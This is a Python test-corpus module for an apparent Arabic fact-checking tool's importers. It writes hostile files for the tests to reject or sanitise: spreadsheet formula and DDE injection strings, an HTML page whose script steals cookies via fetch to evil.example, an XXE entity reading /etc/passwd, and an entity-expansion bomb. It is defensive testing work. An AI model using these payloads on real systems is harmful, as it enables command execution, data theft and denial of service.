"""The hostile-input corpus: bad files written into a folder by the tests themselves.

Each case is a file (or folder, or link) and what each kind of importer must do with
it: ``"refuse"`` (a TahqiqError, nothing written), ``"accept"`` (a correct import), or
``"either"``. ``article`` is the article importer (store.exchange.importing.import_file and
``tahqiq import``); ``claims`` the claims-CSV importer (store.exchange.csv_format.import_claims_csv,
and merging a ``.csv``); ``project`` merging any other file, which must refuse it unless
the case says otherwise (a project damaged only where its rows can still be read).
An optional ``check`` looks at what an accepted import stored.

The cases after "found by fuzzing" are inputs fuzz/run found crashing a door, rebuilt
here from what made them crash; fuzz/targets/ read the whole corpus as seeds, so
tests/test_fuzz_targets.py runs them through every door again (opening one's own
project too).
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import os
import random
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from reliability_support import ARTICLE, make_project

from store.core import articles, claims, history
from store.core.project import Project
from store.exchange import importing
from store.exchange.csv_format import CSV_COLUMNS, MAX_CSV_BYTES, record_id, unescape_cell
from store.text.clean import BIDI_CONTROLS

ARABIC = "قالت الحكومة إن المعاهدة الجديدة أقوى معاهدة على الإطلاق، وفق البيان الرسمي."
SHA = articles.fingerprint(ARTICLE)
TIME = "2024-06-19T10:00:00.000000Z"
# Strings a spreadsheet would run, or a terminal or a reader would show wrongly.
HOSTILE_STRINGS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","click")', "+1",
    "+SUM(1;2)", "-1", "-2+3", "@SUM(A1)", "@ministry", "\t=1", "\r=1", "\0=1", "'=1", "''+1",
    "'", "=", "+", "-", "@", " =1", "\uff1d1", "\u202e=1 evil", "\u2067=1\u2069",
    "\x1b[31m=red\x1b[0m", '=DDE("cmd";"/C calc";"!A0")', "-@", "=\n1", "a\r\nb", '"=1"',
    ",=1", "مرحبا =1", "=مرحبا", "😀=1", "=😀", "\u200f=1", "x\u0000y", "\\=1", "%0A=1",
)


@dataclass(frozen=True)
class Case:
    name: str  # the file's name
    make: Callable[[Path, dict], None]  # writes the file at the path it is given
    article: str  # "accept" | "refuse" | "either"
    claims: str
    check: Callable[[Project, str, Path], None] | None = None  # (project, kind, file)
    project: str = "refuse"  # merging the file as a colleague's project


def write(data: bytes) -> Callable[[Path, dict], None]:
    return lambda path, ctx: path.write_bytes(data)


def claim_row(ctx: dict, quote: str = "=SUM(A1:A9)", occurrence: int = 0, **cells: str
              ) -> dict[str, str]:
    """Cells of one claim on the template article, written raw (as a spreadsheet might)."""
    start = ARTICLE.index(quote) if occurrence == 0 else ARTICLE.index(quote, occurrence)
    end = start + len(quote)
    row = {"claim_id": cells.pop("claim_id", f"hostile-{random.randrange(10**12)}"),
           "article_id": ctx["article_id"], "article_title": "t", "article_sha256": SHA,
           "start": str(start), "end": str(end), "quote": quote,
           "prefix": ARTICLE[max(0, start - 32):start], "suffix": ARTICLE[end:end + 32],
           "label": "verified", "note": "", "sources": "", "annotator": "hostile",
           "created": TIME, "updated": TIME, "updated_by": "", "review_status": ""}
    row.update(cells)
    return row


def claims_csv(rows: Callable[[dict], list[dict]], columns=CSV_COLUMNS, encoding="utf-8-sig",
               line_end="\r\n", header: bool = True,
               damage: Callable[[bytes], bytes] = lambda data: data
               ) -> Callable[[Path, dict], None]:
    """A claims CSV of *rows*, cells written as they are (no formula escaping)."""
    def make(path: Path, ctx: dict) -> None:
        buffer = io.StringIO(newline="")
        writer = csv.writer(buffer, lineterminator=line_end)
        if header:
            writer.writerow(columns)
        for row in rows(ctx):
            writer.writerow([row.get(c, "") for c in columns])
        path.write_bytes(damage(buffer.getvalue().encode(encoding)))
    return make


def one(**cells: str) -> Callable[[dict], list[dict]]:
    return lambda ctx: [claim_row(ctx, **cells)]


def sparse(size: int) -> Callable[[Path, dict], None]:
    def make(path: Path, ctx: dict) -> None:
        with path.open("wb") as fh:
            fh.truncate(size)  # a hole: no time or disk spent on it
    return make


def project_file(change: Callable[[Path], None]) -> Callable[[Path, dict], None]:
    def make(path: Path, ctx: dict) -> None:
        make_project(path, n_claims=30)
        change(path)
    return make


def truncate_half(path: Path) -> None:
    os.truncate(path, path.stat().st_size // 2)


def newer_schema(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA user_version = 999")
    conn.commit()
    conn.close()


def foreign_sqlite(path: Path, ctx: dict) -> None:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE claims (id, quote)")
    conn.execute("INSERT INTO claims VALUES ('x', '=1+1')")
    conn.commit()
    conn.close()


def found(name: str) -> Callable[[Path, dict], None]:
    """An input fuzzing found, kept gzipped in found/ beside this file."""
    return write(gzip.decompress((Path(__file__).parent / "found" / name).read_bytes()))


def fixture(name: str, change: Callable[[sqlite3.Connection], None]
            ) -> Callable[[Path, dict], None]:
    """A copy of tests/fixtures/*name* changed by *change*, written as SQLite writes."""
    def make(path: Path, ctx: dict) -> None:
        path.write_bytes((Path(__file__).parent.parent / "fixtures" / name).read_bytes())
        raw(change)(path)
    return make


def raw(change: Callable[[sqlite3.Connection], None]) -> Callable[[Path], None]:
    """*change* made to a project file behind Tahqiq's back: no foreign keys, no triggers
    that need Tahqiq's functions, one file with no -wal beside it."""
    def apply(path: Path) -> None:
        conn = sqlite3.connect(path)
        conn.execute("PRAGMA foreign_keys = OFF")
        change(conn)
        conn.commit()
        conn.execute("PRAGMA journal_mode = DELETE")
        conn.close()
    return apply


def stale_index(path: Path) -> None:
    """Change an article's id in its index page only: SQLite's quick check does not compare
    an index with its table, so the file opens, and a lookup by that id finds nothing."""
    with Project.open(path, "hostile", create=False) as project:
        article_id = articles.add_article(project, ARABIC, "another").id  # not the template's
    raw(lambda conn: None)(path)
    conn = sqlite3.connect(path)
    (root,) = conn.execute("SELECT rootpage FROM sqlite_master WHERE "
                           "name = 'sqlite_autoindex_articles_1'").fetchone()
    size = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.close()
    data = bytearray(path.read_bytes())
    page = slice((root - 1) * size, root * size)
    data[page] = bytes(data[page]).replace(article_id.encode(), b"X" + article_id[1:].encode())
    path.write_bytes(bytes(data))


def folder(path: Path, ctx: dict) -> None:
    path.mkdir()


def dangling_link(path: Path, ctx: dict) -> None:
    path.symlink_to(path.with_name("no-such-file.txt"))


# -- what an accepted import must look like ------------------------------------------------
def newest_text(project: Project) -> str:
    newest = articles.list_articles(project)[-1]
    return articles.get_article(project, newest["id"]).text


def article_is(expected: str) -> Callable[[Project, str, Path], None]:
    def check(project: Project, kind: str, path: Path) -> None:
        if kind == "article":
            assert newest_text(project) == expected
    return check


def clean_article(project: Project, kind: str, path: Path) -> None:
    """No control or bidi-override characters survive into an article's text."""
    if kind == "article":
        text = newest_text(project)
        assert not any(ord(c) < 32 and c not in "\n\t" for c in text), repr(text[:200])
        assert not set(text) & set(BIDI_CONTROLS)
        assert "وفق البيان" in text


def readable(project: Project, kind: str, path: Path) -> None:
    """A merged project with damaged rows still reads: every claim, its history and links."""
    if kind == "project":
        for claim in claims.list_claims(project, include_deleted=True):
            assert all(source.startswith("http") for source in claim.sources)
            for entry in history.for_claim(project, claim.id):
                assert entry.after is None or isinstance(entry.after, dict)


def nothing_runs(project: Project, kind: str, path: Path) -> None:
    """A web page gives its article text: no script, style, link target or handler."""
    if kind == "article":
        newest = articles.list_articles(project)[-1]
        text = articles.get_article(project, newest["id"]).text
        assert "أقوى معاهدة" in text
        for bad in ("alert", "javascript", "onerror", "document.cookie", "color:", "<", "evil"):
            assert bad not in text, bad
        assert not newest["url"] or newest["url"].startswith(("http://", "https://"))


def no_local_file(project: Project, kind: str, path: Path) -> None:
    if kind == "article":
        text = newest_text(project)
        assert "root:" not in text and "/bin/" not in text


def claims_verbatim(rows: list[dict]) -> Callable[[Project, str, Path], None]:
    """The claims came in cell for cell, formula-looking and invisible characters too
    (a cell such as ``'=1`` is the escaped form of ``=1``: the import removes that one
    apostrophe, as the format says); a note as the project keeps one, without controls
    and overrides (claims.stored_note)."""
    def check(project: Project, kind: str, path: Path) -> None:
        if kind == "claims":
            for row in rows:
                # (the file's own ids, not UUIDs, are given UUIDs: csv_format.record_id)
                claim = unescape_cell(row["claim_id"]).strip()
                place = unescape_cell(row.get("appearance_id") or "").strip() or claim
                place_id = record_id("claims" if place == claim else "appearances", place,
                                     SHA, int(row["start"]), int(row["end"]))
                stored = next(project.db.query(
                    "SELECT a.quote, c.note, c.label, a.annotator FROM appearances a JOIN "
                    "claims c ON c.id = a.claim_id WHERE a.id = ?", [place_id]))
                for column in ("quote", "label"):
                    assert stored[column] == unescape_cell(row[column]), column
                assert stored["note"] == claims.stored_note(unescape_cell(row["note"]))
                assert stored["annotator"] == unescape_cell(row["annotator"]).strip()
    return check


# -- the corpus ------------------------------------------------------------------------------
PAGE_SCRIPTS = f"""<!DOCTYPE html>
<html lang="ar"><head><meta charset="utf-8"><title>خبر</title>
<script src="http://127.0.0.1:9/evil.js"></script>
<script>document.cookie; alert("x"); fetch("http://evil.example/steal")</script>
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="canonical" href="javascript:alert(1)">
<style>p {{ color: red }}</style>
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
</head><body onload="alert(1)">
<nav><a href="javascript:alert(1)">اضغط هنا</a> <a href="javascript:void(0)">القائمة</a></nav>
<article><h1>المعاهدة</h1>
<p>{ARABIC} <a href="javascript:alert('evil')">رابط</a></p>
<p onclick="alert(2)">{ARABIC[::-1]}</p>
<img src="x" onerror="alert(3)"><iframe src="javascript:alert(4)"></iframe>
<p>{ARABIC}</p>
<svg><script>alert(5)</script></svg>
</article></body></html>"""

FORMULA_ROWS = [
    {"claim_id": "-1", "quote": "=SUM(A1:A9)", "note": "=cmd|' /C calc'!A0",
     "annotator": "@evil"},
    {"claim_id": "formula-2", "quote": "+40", "note": "+1", "annotator": "=1+1"},
    {"claim_id": "formula-3", "quote": "-3", "note": "-2+3\r\n=1", "annotator": "-x"},
    {"claim_id": "formula-4", "quote": "@ministry", "note": "@SUM(A1)", "annotator": "a"},
    {"claim_id": "formula-5", "quote": '=HYPERLINK("http://evil.example")', "note": "\t=1",
     "annotator": "a"},
    {"claim_id": "formula-6", "quote": "'made up'", "note": "''=1", "annotator": "a"},
]
INVISIBLE_ROWS = [
    {"claim_id": "invisible-1", "quote": "أقوى معاهدة على الإطلاق",
     "note": "\u202eتحذير\u202c \x1b[31mred\x1b[0m \u2066x\u2069", "annotator": "\u202eevil"},
    {"claim_id": "invisible-2", "quote": "الصادرات ارتفعت", "note": "a\x00b\x07c\u200fd",
     "annotator": "\u200fa"},
]
LONG_ROW = {"claim_id": "long-1", "quote": "بيونغ يانغ 😀", "note": "ن" * 100_000,
            "annotator": "a"}


def rows_of(specs: list[dict]) -> Callable[[dict], list[dict]]:
    return lambda ctx: [claim_row(ctx, **dict(spec)) for spec in specs]


def filled(specs: list[dict]) -> list[dict]:
    """The specs as claim_row completes them (quote, label, annotator as imported)."""
    return [claim_row({"article_id": ""}, **dict(spec)) for spec in specs]


CASES: list[Case] = [
    # -- nothing, or not text --------------------------------------------------------------
    Case("empty.txt", write(b""), "refuse", "refuse"),
    Case("blank.txt", write(b" \n\t\r\n   \n"), "refuse", "refuse"),
    Case("empty.csv", write(b""), "refuse", "refuse"),
    Case("bom-only.csv", write(codecs.BOM_UTF8 + b"\r\n"), "refuse", "refuse"),
    Case("binary.bin", write(random.Random(1).randbytes(4096) + b"\0"), "refuse", "refuse"),
    Case("photo.txt", write(b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(2048)),
         "refuse", "refuse"),
    Case("huge.txt", sparse(importing.MAX_IMPORT_BYTES + 1), "refuse", "refuse"),
    Case("huge.csv", sparse(MAX_CSV_BYTES + 1), "refuse", "refuse"),
    Case("folder.txt", folder, "refuse", "refuse"),
    Case("gone.txt", dangling_link, "refuse", "refuse"),
    Case("evil\n\u202ename.txt", write(b""), "refuse", "refuse"),
    # -- encodings ---------------------------------------------------------------------------
    Case("invalid-utf8.txt", write(ARABIC.encode() + b"\xff\xfe" + ARABIC.encode()),
         "refuse", "refuse"),
    Case("mixed-encodings.txt", write(ARABIC.encode() + b"\n" + ARABIC.encode("cp1256")),
         "refuse", "refuse"),
    Case("cp1256-then-utf8.txt", write(ARABIC.encode("cp1256") + b"\n" + "نعم".encode()),
         "refuse", "refuse"),
    Case("bom-then-cp1256.txt", write(codecs.BOM_UTF8 + ARABIC.encode("cp1256")),
         "refuse", "refuse"),
    Case("utf16-odd.txt", write(codecs.BOM_UTF16_LE + ARABIC.encode("utf-16-le") + b"\x00"),
         "refuse", "refuse"),
    Case("invalid-utf8.csv", claims_csv(one(note="ok"), damage=lambda d: d.replace(
        b"ok", b"o\xffk")), "refuse", "refuse"),
    # (a sheet's «Unicode Text» of claims: read as claims, and no article: rv58)
    Case("utf16.csv", claims_csv(one(), encoding="utf-16"), "refuse", "accept"),
    # -- text that is hostile to look at -----------------------------------------------------
    Case("long-line.txt", write(((ARABIC + " ") * 1300)[:100_000].encode()), "accept",
         "refuse", article_is(((ARABIC + " ") * 1300)[:100_000].strip())),
    Case("controls-bidi.txt", write(("\x01\x07\x1b[31m" + ARABIC.replace("أقوى", "\u202eأقوى")
                                     + "\u2066x\u2069\x7f\x0c\r\n" + ARABIC).encode()),
         "accept", "refuse", clean_article),
    # -- web pages ---------------------------------------------------------------------------
    Case("scripts.html", write(PAGE_SCRIPTS.encode()), "accept", "refuse", nothing_runs),
    Case("only-scripts.html", write(b"<!DOCTYPE html><html><head><script>alert(1)</script>"
                                    b"</head><body><script>alert(2)</script><a href='javascript"
                                    b":alert(3)'>x</a></body></html>"), "refuse", "refuse"),
    Case("nul-in-page.html", write(PAGE_SCRIPTS.encode().replace(b"<article>", b"\0<article>")),
         "refuse", "refuse"),
    Case("deep-nesting.html", write(("<!DOCTYPE html><html><body>" + "<div>" * 20_000 + ARABIC
                                     + "</div>" * 20_000 + "</body></html>").encode()),
         "either", "refuse"),
    Case("external-entity.html", write(
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<html><body><p>" + ARABIC.encode() + b" &x;</p><p>" + ARABIC.encode()
        + b"</p></body></html>"), "either", "refuse", no_local_file),
    Case("entity-bomb.html", write(
        b'<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
        b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
        b"]><html><body><p>" + ARABIC.encode() + b" &f;&f;&f;&f;&f;&f;&f;&f;</p></body></html>"),
         "either", "refuse"),
    # -- claims CSVs ---------------------------------------------------------------------------
    # (the article importer refuses a file opening on the claims header: it names where a
    # CSV of claims goes; one without that header is refused as a spreadsheet's)
    Case("formula-cells.csv", claims_csv(rows_of(FORMULA_ROWS)), "refuse", "accept",
         claims_verbatim(filled(FORMULA_ROWS))),
    Case("controls-bidi.csv", claims_csv(rows_of(INVISIBLE_ROWS)), "refuse", "accept",
         claims_verbatim(filled(INVISIBLE_ROWS))),
    Case("long-note.csv", claims_csv(rows_of([LONG_ROW])), "refuse", "accept",
         claims_verbatim(filled([LONG_ROW]))),
    Case("cr-line-ends.csv", claims_csv(one(), line_end="\r"), "refuse", "either"),
    Case("missing-columns.csv", claims_csv(one(), columns=[c for c in CSV_COLUMNS
                                                           if c not in ("start", "end")]),
         "refuse", "refuse"),
    Case("no-header.csv", claims_csv(one(), header=False), "refuse", "refuse"),
    Case("offsets-past-end.csv", claims_csv(one(end=str(len(ARTICLE) + 5))), "refuse",
         "refuse"),
    Case("offsets-huge.csv", claims_csv(one(start="9" * 5000)), "refuse", "refuse"),
    Case("offsets-negative.csv", claims_csv(one(start="-1")), "refuse", "refuse"),
    Case("offsets-arabic-digits.csv", claims_csv(one(start="٣", end="١٢")), "refuse", "refuse"),
    Case("quote-mismatch.csv", claims_csv(lambda ctx: [dict(claim_row(ctx), quote="=SUM(B1)")]),
         "refuse", "refuse"),
    Case("prefix-mismatch.csv", claims_csv(one(prefix="not the prefix")), "refuse", "refuse"),
    Case("unmatched-quote.csv", claims_csv(one(note="ok"), damage=lambda d: d.replace(
        b",ok,", b',"ok,')), "refuse", "refuse"),
    Case("stray-quote.csv", claims_csv(one(note="ok"), damage=lambda d: d.replace(
        b",ok,", b',"ok"x,')), "refuse", "refuse"),
    Case("long-label.csv", claims_csv(one(label="x" * 100_000)), "refuse", "refuse"),
    Case("javascript-source.csv", claims_csv(one(sources="javascript:alert(1)")), "refuse",
         "refuse"),
    Case("bad-ipv6-source.csv", claims_csv(one(sources="http://[::1")), "refuse", "refuse"),
    Case("year-overflow.csv", claims_csv(one(created="0001-01-01T00:00:00+01:00")), "refuse",
         "refuse"),
    Case("duplicate-ids.csv", claims_csv(lambda ctx: [claim_row(ctx, claim_id="same"),
                                                      claim_row(ctx, quote="+40",
                                                                claim_id="same")]),
         "refuse", "refuse"),
    Case("unknown-article.csv", claims_csv(one(article_sha256="0" * 64, article_id="nope")),
         "refuse", "refuse"),
    # -- files that look like projects -------------------------------------------------------
    Case("random.tahqiq", write(random.Random(3).randbytes(8192)), "refuse", "refuse"),
    Case("truncated.tahqiq", project_file(truncate_half), "refuse", "refuse"),
    Case("newer.tahqiq", project_file(newer_schema), "refuse", "refuse"),
    Case("foreign.tahqiq", foreign_sqlite, "refuse", "refuse"),
    Case("project-named.csv", project_file(lambda path: None), "refuse", "refuse"),
    # -- found by fuzzing (fuzz/run) -----------------------------------------------------------
    # A byte of a claim's id changed in an appearance: merging it broke a foreign key.
    Case("dangling-claim.tahqiq", project_file(raw(lambda conn: conn.execute(
        "UPDATE appearances SET claim_id = 'no-such-claim' WHERE rowid = 1"))),
         "refuse", "refuse"),
    # A byte of a history entry turned into a control character: the claim's history, in
    # the window or `tahqiq history`, stopped at it (in one's own file or merged in).
    Case("damaged-history.tahqiq", project_file(raw(lambda conn: conn.execute(
        "UPDATE history SET after = replace(after, '\"', char(10)) WHERE entity = 'claim'"))),
         "refuse", "refuse", readable, project="accept"),
    Case("damaged-sources.tahqiq", project_file(raw(lambda conn: conn.execute(
        "UPDATE claims SET sources = '[\"http://a.example\", {' WHERE rowid % 2 = 0"))),
         "refuse", "refuse", readable, project="accept"),
    # An index that disagrees with its table: merging looked an article up and got nothing.
    Case("stale-index.tahqiq", project_file(stale_index), "refuse", "refuse"),
    # A schema-1 project whose review names a missing claim: opening it made its
    # .schema1.bak and left it there when the upgrade refused the file.
    Case("old-broken-reference.tahqiq", fixture("schema1.tahqiq", lambda conn: conn.execute(
        "UPDATE reviews SET claim_id = 'no-such-claim'")), "refuse", "refuse"),
    # The input fuzzing found, as it was (found/): a schema name that is not UTF-8, which
    # SQLite's quick check lets through; upgrading the file raised UnicodeDecodeError.
    Case("schema-not-utf8.tahqiq", found("schema-not-utf8.tahqiq.gz"), "refuse", "refuse"),
    # A history column renamed by a changed byte in the schema: the file opens, and reading
    # a claim's history stopped at a KeyError. A missing column now reads as empty.
    Case("renamed-column.tahqiq", found("renamed-column.tahqiq.gz"), "refuse", "refuse",
         project="either"),
    # The input fuzzing found (found/): bytes in a claim's quote. SQLite stores any value in
    # any column; merged, it broke the JSON export of one's own project ever after.
    Case("blob-quote.tahqiq", found("blob-quote.tahqiq.gz"), "refuse", "refuse"),
    # The input fuzzing found (found/): bytes in a text column of one's own damaged
    # project; its CSV export stopped at a TypeError (the JSON export said a sentence).
    Case("blob-in-text.tahqiq", found("blob-in-text.tahqiq.gz"), "refuse", "refuse"),
    Case("text-offset.tahqiq", project_file(raw(lambda conn: conn.execute(
        "UPDATE appearances SET start = 'seven' WHERE rowid = 2"))), "refuse", "refuse"),
    # A schema-1 project whose last upgrade step fails (a column renamed): each step was its
    # own transaction, so the refused file was left half upgraded, and its backup removed.
    Case("old-failing-upgrade.tahqiq", fixture("schema1.tahqiq", lambda conn: conn.execute(
        "ALTER TABLE claims RENAME COLUMN deleted_by TO gone")), "refuse", "refuse"),
]
